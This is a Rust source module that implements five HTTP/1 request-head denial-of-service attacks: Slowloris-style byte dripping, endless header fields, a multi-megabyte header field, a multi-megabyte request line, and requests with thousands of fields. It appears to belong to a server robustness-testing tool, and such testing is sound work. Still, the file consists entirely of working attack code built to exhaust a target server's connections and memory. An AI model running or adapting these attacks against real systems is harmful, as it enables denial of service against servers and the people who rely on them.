//! Attacks by the head of an HTTP/1 request: slow, endless, huge, and many.

use std::io;
use std::time::Duration;

use futures_util::future::LocalBoxFuture;

use super::{Attack, End, Line, Target};

/// The first lines of a request, and no end.
fn opening(target: &Target) -> String {
    format!("GET /head HTTP/1.1\r\nHost: {}\r\n", target.host)
}

/// Slow heads (Slowloris): a head that comes a byte at a time and never ends.
#[derive(Debug)]
pub struct SlowHead {
    /// Between two bytes.
    pub pause: Duration,
}

impl Attack for SlowHead {
    fn name(&self) -> &'static str {
        "slow heads"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.drip(opening(target).as_bytes(), self.pause).await?;
            loop {
                line.drip(b"X-Slow: 1\r\n", self.pause).await?;
            }
        })
    }
}

/// Endless head: short fields without end, as fast as they go.
#[derive(Debug)]
pub struct EndlessHead;

impl Attack for EndlessHead {
    fn name(&self) -> &'static str {
        "endless head"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send_reading(opening(target).as_bytes()).await?;
            let fields = "X-Endless: 1\r\n".repeat(64);
            loop {
                line.send_reading(fields.as_bytes()).await?;
                line.seen.count(64);
            }
        })
    }
}

/// Huge field: one field of many megabytes.
#[derive(Debug)]
pub struct HugeField;

impl Attack for HugeField {
    fn name(&self) -> &'static str {
        "huge field"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let start = opening(target) + "X-Huge: ";
            line.send_reading(start.as_bytes()).await?;
            line.seen.count(1);
            endless(&mut line, b'h').await
        })
    }
}

/// Huge target: a request line of many megabytes.
#[derive(Debug)]
pub struct HugeTarget;

impl Attack for HugeTarget {
    fn name(&self) -> &'static str {
        "huge target"
    }

    fn run<'a>(&'a self, mut line: Line<'a>, _: &'a Target) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            line.send_reading(b"GET /").await?;
            line.seen.count(1);
            endless(&mut line, b't').await
        })
    }
}

/// Many fields: complete requests with thousands of short fields, all within one write.
#[derive(Debug)]
pub struct ManyFields {
    /// Fields a request has.
    pub fields: usize,
}

impl Attack for ManyFields {
    fn name(&self) -> &'static str {
        "many fields"
    }

    fn run<'a>(
        &'a self,
        mut line: Line<'a>,
        target: &'a Target,
    ) -> LocalBoxFuture<'a, io::Result<End>> {
        Box::pin(async move {
            let head = opening(target) + &"a:1\r\n".repeat(self.fields) + "\r\n";
            line.send_reading(head.as_bytes()).await?;
            line.seen.count(1);
            line.read_until_end().await
        })
    }
}

/// The same byte again and again until the other side has had enough. At most 64 MiB.
async fn endless(line: &mut Line<'_>, byte: u8) -> io::Result<End> {
    let piece = vec![byte; 64 * 1024];
    for _ in 0..1024 {
        line.send_reading(&piece).await?;
    }
    Ok(End::Spent)
}
